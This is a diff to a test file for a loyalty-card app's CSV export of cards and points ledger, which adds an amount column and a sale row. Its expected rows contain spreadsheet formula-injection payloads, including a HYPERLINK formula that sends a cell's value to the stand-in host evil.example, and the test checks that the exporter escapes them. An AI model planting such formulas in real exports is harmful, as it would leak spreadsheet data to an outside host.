@@ -19,7 +19,7 @@ const BOM = '\uFEFF';
 const CARD_HEADER =
   'Numero carta;Nome;Email;Telefono;Punti;Punti in scadenza entro 30 giorni;Data di nascita;Creata il;' +
   'Consenso marketing WhatsApp;Consenso marketing SMS;Consenso marketing email';
-const LEDGER_HEADER = 'Data;Numero carta;Cliente;Tipo;Punti;Premio;Descrizione;Operatore';
+const LEDGER_HEADER = 'Data;Numero carta;Cliente;Tipo;Punti;Importo (€);Premio;Descrizione;Operatore';
 
 /** The records of a file as a spreadsheet reads them (csv-parse, RFC 4180), header first. */
 const records = (body: string): string[][] => parse(body, { delimiter: ';', bom: true, record_delimiter: '\r\n', relax_column_count: false });
@@ -74,6 +74,12 @@ describeEachDatabase('CSV export of cards and ledger', (variant) => {
          (900005, 'k1', -2, 'expiry', 'Punti scaduti', NULL, NULL, 900001, NULL, '2026-03-08 10:00:00+00'),
          (900006, 'k2', 7.25, 'credit', '+ bonus', $1, NULL, NULL, NULL, '2026-03-08 10:00:00+00')`,
       [shopAdmin.id, staff.id],
+    );
+    // A sale (decision 075), under the shop's minimum spend (no points, so no balance changes): its amount in «Importo (€)».
+    await t.app.db.query(
+      `INSERT INTO points_ledger (id, card_id, points, kind, description, author_id, amount_cents, earning, created_at)
+       VALUES (900007, 'k2', 0, 'credit', 'Vendita di 23,50 €', $1, 2350, '{}', '2026-03-09 10:00:00+00')`,
+      [shopAdmin.id],
     );
   });
   afterAll(() => t.close());
@@ -131,15 +137,16 @@ describeEachDatabase('CSV export of cards and ledger', (variant) => {
     const rows = records(body);
     expect(rows).toEqual([
       LEDGER_HEADER.split(';'),
-      ['28/02/2026 10:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'accredito', '20', '', 'Spesa', 'Altro Admin'],
-      ['06/03/2026 00:30:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'bonus compleanno', '4', '', 'Buon compleanno', ''],
-      ['06/03/2026 11:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'rettifica', '-5', '', "'=1+1", '\'@Cassa; "uno"'],
-      ['07/03/2026 11:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'riscatto', '-3', 'Caffè "doppio"', 'Premio', 'Altro Admin'],
-      ['08/03/2026 11:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'scadenza', '-2', '', 'Punti scaduti', ''],
-      ['08/03/2026 11:00:00', 'LC-00000002', 'Rossi; "Mario"\nsecondo rigo', 'accredito', '7,25', '', "'+ bonus", 'Altro Admin'],
+      ['28/02/2026 10:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'accredito', '20', '', '', 'Spesa', 'Altro Admin'],
+      ['06/03/2026 00:30:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'bonus compleanno', '4', '', '', 'Buon compleanno', ''],
+      ['06/03/2026 11:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'rettifica', '-5', '', '', "'=1+1", '\'@Cassa; "uno"'],
+      ['07/03/2026 11:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'riscatto', '-3', '', 'Caffè "doppio"', 'Premio', 'Altro Admin'],
+      ['08/03/2026 11:00:00', 'LC-00000001', "'=HYPERLINK(\"http://evil.example/?\"&A1;\"Clicca\")", 'scadenza', '-2', '', '', 'Punti scaduti', ''],
+      ['08/03/2026 11:00:00', 'LC-00000002', 'Rossi; "Mario"\nsecondo rigo', 'accredito', '7,25', '', '', "'+ bonus", 'Altro Admin'],
+      ['09/03/2026 11:00:00', 'LC-00000002', 'Rossi; "Mario"\nsecondo rigo', 'accredito', '0', '23,5', '', 'Vendita di 23,50 €', 'Altro Admin'],
     ]);
     // A negative number is written bare (a number for Excel), never behind a quote mark.
-    expect(body).toContain(';rettifica;-5;;');
+    expect(body).toContain(';rettifica;-5;;;');
   });
 
   it('lets only the admin of the shop and the super admin download; another shop, a client, nobody: refused, nothing in the body', async () => {
